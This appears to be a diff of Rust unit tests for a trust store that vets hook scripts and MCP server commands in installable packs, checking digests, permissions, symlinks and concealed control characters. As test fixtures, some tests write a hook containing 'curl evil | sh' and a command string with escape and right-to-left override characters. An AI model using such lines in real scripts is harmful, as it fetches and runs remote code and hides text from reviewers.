+            },
+            env_refs: vec![],
         };
-        assert!(trust(&guard, "p", "1.0.0", &[drifted]).is_err());
-        // The runtime's view: the installed pack per pack.lock and the file's current digest.
-        let pack = root.join("p");
-        std::fs::create_dir_all(pack.join("hooks")).unwrap();
-        std::fs::write(pack.join("hooks/a.sh"), "echo hi\n").unwrap();
-        let real = super::super::sha256_file(&pack.join("hooks/a.sh")).unwrap();
-        let hook = HookStatus {
-            sha256: real,
-            ..hook_template()
-        };
-        trust(&guard, "p", "1.0.0", &[hook]).unwrap();
-        assert!(
-            !hook_command_trusted(&pack, "./hooks/a.sh"),
-            "not in pack.lock"
+        assert!(mcp_digest(&http).is_none());
+    }
+
+    #[test]
+    fn command_lines_cannot_hide_text_from_the_reviewer() {
+        let s = stdio(
+            "x",
+            "/bin/sh",
+            &["-c", "touch m; echo 'hi'", "a\rb\u{202e}c\u{1b}[2J"],
         );
-        let mut lock = Lock::default();
-        lock.packs.insert(
-            "p".into(),
-            super::super::lock::LockEntry {
-                source: "x".into(),
-                sha256: None,
-                resolved: None,
+        let line = command_line(&s).unwrap();
+        assert_eq!(
+            line,
+            r#"K=${V} /bin/sh -c 'touch m; echo '\''hi'\''' $'a\rb\u{202e}c\u{1b}[2J'"#
+        );
+        assert!(!line.chars().any(|c| c.is_control()), "{line:?}");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn the_store_is_believed_only_when_private() {
+        use std::os::unix::fs::PermissionsExt;
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().join("root");
+        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
+        let mut store = TrustStore::default();
+        store.packs.insert("p".into(), PackTrust::default());
+        store.save(&guard).unwrap();
+        assert!(TrustView::load(&root).problem().is_none());
+        let file = TrustStore::path(&root);
+        for (path, mode) in [
+            (&file, 0o664),
+            (&file, 0o646),
+            (&root, 0o775),
+            (&root.join(STATE_DIR), 0o777),
+        ] {
+            let before = std::fs::metadata(path).unwrap().permissions().mode();
+            std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
+            let view = TrustView::load(&root);
+            let why = view.problem().expect("refused");
+            assert!(why.contains("writable"), "{why}");
+            assert!(
+                store.save(&guard).is_err(),
+                "never written into an unsafe store"
+            );
+            std::fs::set_permissions(path, std::fs::Permissions::from_mode(before)).unwrap();
+        }
+        // A store that is a link (to a file someone else prepared) is refused too.
+        let elsewhere = tmp.path().join("forged.json");
+        std::fs::write(&elsewhere, r#"{"packs": {}}"#).unwrap();
+        std::fs::remove_file(&file).unwrap();
+        std::os::unix::fs::symlink(&elsewhere, &file).unwrap();
+        assert!(
+            TrustView::load(&root)
+                .problem()
+                .unwrap()
+                .contains("symbolic link")
+        );
+    }
+
+    /// Trust is bound to the location, the manifest's id and version, the file's digest and the
+    /// command line; a directory's trust does not carry over to a copy elsewhere.
+    #[test]
+    fn trust_for_a_directory_binds_location_id_version_and_digests() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().join("root");
+        let dir = tmp.path().join("dev").join("pack");
+        write_pack(&dir, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
+        let dir = dir.canonicalize().unwrap();
+        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
+        let target = Target::Dir {
+            dir: dir.clone(),
+            pack_id: "com.example.p".into(),
+        };
+        let view = TrustView::load(&root);
+        let pack = pack_ref(&dir);
+        let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
+        assert!(why.contains("never trusted this directory"), "{why}");
+        assert!(view.remedy(&pack).contains(&*dir.to_string_lossy()));
+
+        let review = review(&root, &target).unwrap();
+        assert_eq!(review.hooks.len(), 1);
+        assert_eq!(review.mcp_servers.len(), 1);
+        assert_eq!(review.mcp_servers[0].command_line, "tool-mcp --stdio");
+        record(&guard, &target, &review, true, true).unwrap();
+        let view = TrustView::load(&root);
+        view.hook(&pack, "./hooks/a.sh --x").unwrap();
+        let loaded = crate::pack::load(&dir).pack.unwrap();
+        let server = &loaded.personas[0].mcp_servers[0];
+        view.mcp_server(&pack, server).unwrap();
+        // Another command line for the same file, another file.
+        assert!(view.hook(&pack, "./hooks/a.sh --evil").is_err());
+        // The same pack copied elsewhere: not trusted.
+        let copy = tmp.path().join("copy");
+        write_pack(&copy, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
+        let copy_ref = pack_ref(&copy);
+        assert!(view.hook(&copy_ref, "./hooks/a.sh --x").is_err());
+        assert!(view.mcp_server(&copy_ref, server).is_err());
+        // Another id or version in the trusted directory: not trusted.
+        for (id, version) in [("com.example.q", "1.0.0"), ("com.example.p", "1.0.1")] {
+            let other = PackRef {
+                id: id.into(),
+                version: version.into(),
+                root: dir.clone(),
+            };
+            assert!(
+                view.hook(&other, "./hooks/a.sh --x").is_err(),
+                "{id} {version}"
+            );
+        }
+        // A changed hook file or server definition: not trusted.
+        std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
+        assert!(why.contains("changed"), "{why}");
+        let changed = stdio("tool", "/bin/sh", &["-c", "id"]);
+        let why = view.mcp_server(&pack, &changed).unwrap_err();
+        assert!(why.contains("changed since it was trusted"), "{why}");
+        // Revoked: nothing.
+        assert!(forget_target(&guard, &target).unwrap());
+        std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\necho hi\n").unwrap();
+        assert!(
+            TrustView::load(&root)
+                .hook(&pack, "./hooks/a.sh --x")
+                .is_err()
+        );
+    }
+
+    /// The installed copy is trusted by pack id; nothing beside a pack directory counts.
+    #[test]
+    fn installed_copy_trust_does_not_come_from_files_beside_a_pack() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().join("root");
+        let installed = root.join("com.example.p");
+        write_pack(&installed, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
+        let guard = RootGuard::acquire(&root, true).unwrap().unwrap();
+        let pack = pack_ref(&installed);
+        let digest = super::super::sha256_file(&installed.join("hooks/a.sh")).unwrap();
+        let mut store = TrustStore::default();
+        store.packs.insert(
+            "com.example.p".into(),
+            PackTrust {
                 version: "1.0.0".into(),
-                installed_at: "2026-01-01T00:00:00Z".into(),
-                extra: Default::default(),
+                hooks: vec![TrustedHook {
+                    path: "hooks/a.sh".into(),
+                    sha256: digest.clone(),
+                    kind: HookKind::Script,
+                    commands: vec!["./hooks/a.sh --x".into()],
+                    trusted_at: "t".into(),
+                }],
+                mcp_servers: vec![],
             },
         );
-        lock.save(root, &guard.state).unwrap();
-        assert!(hook_command_trusted(&pack, "./hooks/a.sh --flag"));
-        assert!(!hook_command_trusted(&pack, "../p/hooks/a.sh"));
-        std::fs::write(pack.join("hooks/a.sh"), "curl evil | sh\n").unwrap();
-        assert!(!hook_command_trusted(&pack, "./hooks/a.sh"), "changed file");
-        assert!(forget(&guard, "p").unwrap());
-        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
+        store.save(&guard).unwrap();
+        let view = TrustView::load(&root);
+        assert!(view.is_installed_copy(&pack));
+        view.hook(&pack, "./hooks/a.sh --x").unwrap();
+        assert_eq!(
+            view.remedy(&pack).split_whitespace().nth(2),
+            Some("com.example.p")
+        );
+
+        // A repository laid out like an install root (pack.lock, .apiary/trust.json beside the
+        // pack) is just a directory to the operator's store.
+        let repo = tmp.path().join("repo");
+        let forged = repo.join("com.example.p");
+        write_pack(&forged, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
+        std::fs::create_dir_all(repo.join(STATE_DIR)).unwrap();
+        std::fs::copy(TrustStore::path(&root), TrustStore::path(&repo)).unwrap();
+        std::fs::write(
+            repo.join("pack.lock"),
+            r#"{"com.example.p": {"source": "x", "version": "1.0.0", "installed_at": "t"}}"#,
+        )
+        .unwrap();
+        let forged_ref = pack_ref(&forged);
+        let why = view.hook(&forged_ref, "./hooks/a.sh --x").unwrap_err();
+        assert!(why.contains("not the installed copy"), "{why}");
+        // A directory named like another pack id, whose manifest says otherwise.
+        let misnamed = root.join("com.example.q");
+        write_pack(&misnamed, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
+        assert!(view.hook(&pack_ref(&misnamed), "./hooks/a.sh --x").is_err());
     }
 }
